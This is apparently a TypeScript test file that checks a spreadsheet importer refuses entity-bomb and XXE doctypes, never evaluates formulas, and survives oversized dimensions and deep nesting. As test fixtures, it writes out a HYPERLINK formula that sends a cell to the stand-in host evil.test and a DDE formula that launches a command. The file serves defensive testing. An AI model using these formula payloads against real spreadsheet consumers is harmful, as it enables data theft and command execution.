/**
 * Hostile class: workbook parts written by hand (helper H). DTDs with entity bombs or external
 * entities are refused (the XML parser expands no entities); formulas are never evaluated, their
 * saved values are read; a dimension claiming the whole sheet costs nothing; 100,000 nested elements
 * do not overflow the stack; a date-formatted SKU is never stored as the date's ISO text.
 */
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, describe, expect, it } from "vitest";
import { InputError } from "../../src/core/errors.js";
import { openTable } from "../../src/io/read-table.js";
import { localStores } from "../helpers/catalog.js";
import { runCli } from "../helpers/cli.js";
import { catalogRowXml, inlineCell, LAUGHS_DOCTYPE, workbookParts, XXE_DOCTYPE } from "./generators.js";

const stores = localStores(["shop"]);
afterAll(() => stores.cleanup());

function write(name: string, bytes: Buffer): string {
  const p = join(stores.dir, name);
  writeFileSync(p, bytes);
  return p;
}

async function readAll(path: string): Promise<unknown[][]> {
  const table = await openTable(path);
  const rows: unknown[][] = [table.header];
  for await (const batch of table.batches()) for (const r of batch) rows.push(r.cells);
  return rows;
}

const plainRow = catalogRowXml([inlineCell("A2", "p-1"), inlineCell("B2", "Shirt"), inlineCell("C2", "S-1"), `<c r="D2"><v>12.5</v></c>`]);

describe("DTDs", () => {
  it.each([
    [
      "billion laughs in the sheet",
      {
        sheetXml: catalogRowXml([inlineCell("A2", "p-1"), inlineCell("B2", "&lol9;"), inlineCell("C2", "S-1"), `<c r="D2"><v>1</v></c>`]),
        doctype: LAUGHS_DOCTYPE,
      },
    ],
    [
      "billion laughs in the shared strings",
      {
        sheetXml: catalogRowXml([
          inlineCell("A2", "p-1"),
          `<c r="B2" t="s"><v>0</v></c>`,
          inlineCell("C2", "S-1"),
          `<c r="D2"><v>1</v></c>`,
        ]),
        sst: ["&lol9;"],
        sstDoctype: LAUGHS_DOCTYPE,
      },
    ],
    [
      "an external entity (XXE)",
      {
        sheetXml: catalogRowXml([inlineCell("A2", "p-1"), inlineCell("B2", "&xxe;"), inlineCell("C2", "S-1"), `<c r="D2"><v>1</v></c>`]),
        doctype: XXE_DOCTYPE,
      },
    ],
  ])("%s: refused as an unreadable workbook (exit 3), nothing expanded or fetched", async (_, parts) => {
    const p = write("dtd.xlsx", workbookParts(parts));
    const err = await readAll(p).catch((e: unknown) => e);
    expect(err).toBeInstanceOf(InputError);
    expect((err as InputError).message).toMatch(/dtd\.xlsx: cannot read the workbook: .*undefined entity/);
    expect((err as InputError).message).not.toMatch(/root:|lollol/);
  });
});

describe("formulas, dimensions, nesting", () => {
  it("formulas are never evaluated: the saved values are read (HYPERLINK, DDE)", async () => {
    const sheetXml = catalogRowXml([
      inlineCell("A2", "p-1"),
      `<c r="B2" t="str"><f>HYPERLINK("http://evil.test/?"&amp;C2,"Shirt")</f><v>Shirt</v></c>`,
      `<c r="C2" t="str"><f>cmd|'/c calc'!A1</f><v>S-1</v></c>`,
      `<c r="D2"><f>10+2.5</f><v>12.5</v></c>`,
    ]);
    const rows = await readAll(write("formulas.xlsx", workbookParts({ sheetXml })));
    expect(rows).toEqual([
      ["handle", "title", "sku", "price"],
      ["p-1", "Shirt", "S-1", 12.5],
    ]);
  });

  it("a dimension of A1:XFD1048576 around four cells is read as the four cells", async () => {
    const rows = await readAll(write("dimension.xlsx", workbookParts({ sheetXml: plainRow, dimension: "A1:XFD1048576" })));
    expect(rows).toEqual([
      ["handle", "title", "sku", "price"],
      ["p-1", "Shirt", "S-1", 12.5],
    ]);
  });

  it("100,000 nested elements after the rows neither overflow the stack nor change the rows", async () => {
    const deep = `${plainRow}</sheetData>${"<x>".repeat(100_000)}${"</x>".repeat(100_000)}<sheetData>`;
    const rows = await readAll(write("deep.xlsx", workbookParts({ sheetXml: deep })));
    expect(rows.slice(0, 2)).toEqual([
      ["handle", "title", "sku", "price"],
      ["p-1", "Shirt", "S-1", 12.5],
    ]);
  });
});

describe("date formats on identifiers", () => {
  it("a SKU cell formatted as a date is left out with a warning naming row and column, never stored as ISO text", async () => {
    const sheetXml = catalogRowXml([
      inlineCell("A2", "p-1"),
      inlineCell("B2", "Shirt"),
      `<c r="C2" s="1"><v>45123</v></c>`,
      `<c r="D2"><v>12.5</v></c>`,
    ]);
    write("date-sku.xlsx", workbookParts({ sheetXml }));
    const r = await runCli(["catalog", "import", "date-sku.xlsx", "--dry-run", "--json"], { cwd: stores.dir });
    const report = JSON.parse(r.stdout) as { issues: { severity: string; row: number; column: string; message: string }[] };
    const issue = report.issues.find((i) => i.column === "sku");
    expect(issue, r.stdout).toMatchObject({ severity: "warning", row: 2 });
    expect(issue?.message).toContain("SKU is a date (2023-07-16) in the spreadsheet");
    expect(r.stdout).not.toContain("2023-07-16T00:00:00");
  });
});
